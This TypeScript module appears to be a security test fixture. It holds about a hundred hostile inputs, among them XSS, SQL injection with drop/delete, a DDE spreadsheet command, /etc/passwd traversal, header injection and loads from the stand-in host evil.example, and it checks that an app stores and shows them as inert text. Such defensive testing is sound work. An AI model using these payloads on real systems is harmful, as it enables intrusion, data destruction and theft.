/**
 * A hundred texts that have broken other services: each is only a text here, wherever it is typed,
 * sent, imported, stored, shown, mailed or exported.
 */

export type Payload = { kind: string; text: string };

/** What a script of ours would do if it ever ran: tests look for the mark. */
const RUN = 'window.pwned=1';

const KINDS: { [kind: string]: readonly string[] } = {
	script: [
		`<script>${RUN}</script>`,
		`</script><script>${RUN}</script>`,
		`<ScRiPt>${RUN}</sCrIpT>`,
		`"><script>${RUN}</script>`,
		`'><script>${RUN}</script>`,
		`<script src="//evil.example/x.js"></script>`,
		`<img src=x onerror=${RUN}>`,
		`<img src=x onerror="${RUN}">`,
		`<svg onload=${RUN}>`,
		`<svg><script>${RUN}</script></svg>`,
		`<body onload=${RUN}>`,
		`<details open ontoggle=${RUN}>`,
		`<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
		`<a href="javascript:${RUN}">x</a>`,
		`javascript:${RUN}`,
		`JaVaScRiPt:${RUN}//`,
		`data:text/html,<script>${RUN}</script>`,
		`" onmouseover="${RUN}" x="`,
		`' onfocus='${RUN}' autofocus x='`,
		`\`-${RUN}-\``
	],
	markup: [
		`<h1>Welcome</h1>`,
		`<!-- open`,
		`-->`,
		`<style>*{display:none}</style>`,
		`<link rel=stylesheet href=//evil.example/x.css>`,
		`<meta http-equiv="refresh" content="0;url=//evil.example">`,
		`<base href="//evil.example/">`,
		`<form action="//evil.example"><input name=x></form>`,
		`</textarea><b>x</b>`,
		`</title><b>x</b>`,
		`<plaintext>`,
		`<math><mi//xlink:href="data:x,x">`,
		`&lt;script&gt;${RUN}&lt;/script&gt;`,
		`&#60;script&#62;${RUN}&#60;/script&#62;`,
		`]]><b>x</b>`
	],
	sql: [
		`'; drop table app.service; --`,
		`' or '1'='1`,
		`1; select pg_sleep(60)`,
		`Robert'); delete from app.account;--`,
		`\\'; select 1; --`,
		`$1`,
		`$$; select 1; $$`,
		`%' union select * from app.account --`,
		`%%%___`,
		`{"role":"administrator"}`
	],
	template: [
		`{{7*7}}`,
		`\${7*7}`,
		`#{7*7}`,
		`<%= 7*7 %>`,
		`{@html "<b>x</b>"}`,
		`{#if true}x{/if}`,
		`%s %d %n`,
		`{0} {name} {count}`,
		`__proto__`,
		`constructor`,
		`{"__proto__":{"admin":true}}`
	],
	formula: [
		`=1+1`,
		`=cmd|' /C calc'!A0`,
		`=HYPERLINK("http://evil.example","x")`,
		`+1+1`,
		`-1+1`,
		`@SUM(1)`,
		`\t=1+1`,
		`\r=1+1`,
		`"=1+1"`,
		`=1+1";=1+1`
	],
	invisible: [
		`abc\u202Egnp.exe`,
		`\u202Dabc\u202C`,
		`\u2066abc\u2069`,
		`zero\u200Bwidth`,
		`join\u200Der\u200C`,
		`\uFEFFmark`,
		`soft\u00ADhyphen`,
		`\u2028line\u2029paragraph`,
		`tag\u{E0041}\u{E007F}`,
		`a${'\u0301'.repeat(60)}`
	],
	homograph: [`Саrdiff`, `ɢov.wales`, `www.gоv.wales`, `xn--gv-jia.wales`, `Ⅼlanelli`, `𝐂𝐚𝐫𝐝𝐢𝐟𝐟`],
	bytes: [
		`nul\u0000byte`,
		`\u0000`,
		`bell\u0007escape\u001B[31m`,
		`lone\uD800surrogate`,
		`\uDC00`,
		`back\bspace`
	],
	path: [
		`../../../../etc/passwd`,
		`..\\..\\windows\\win.ini`,
		`%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
		`/etc/passwd\u0000.csv`,
		`file:///etc/passwd`,
		`//evil.example/x`
	],
	header: [
		`x\r\nBcc: victim@evil.example`,
		`x\nSet-Cookie: a=b`,
		`x%0d%0aLocation: //evil.example`,
		`a@evil.example\r\nSubject: x`
	],
	huge: [`${'x'.repeat(100_000)}`, `${'<'.repeat(10_000)}`]
};

export const PAYLOADS: readonly Payload[] = Object.entries(KINDS).flatMap(([kind, texts]) =>
	texts.map((text) => ({ kind, text }))
);

/** The name of a payload in a test's report: short and printable. */
export const named = ({ kind, text }: Payload): string =>
	`${kind}: ${JSON.stringify(text.slice(0, 40))}`;

/** Whether the text would be markup if it stood unescaped in a page. */
export const isMarkup = ({ text }: Payload): boolean => /<[a-z!/]/i.test(text);
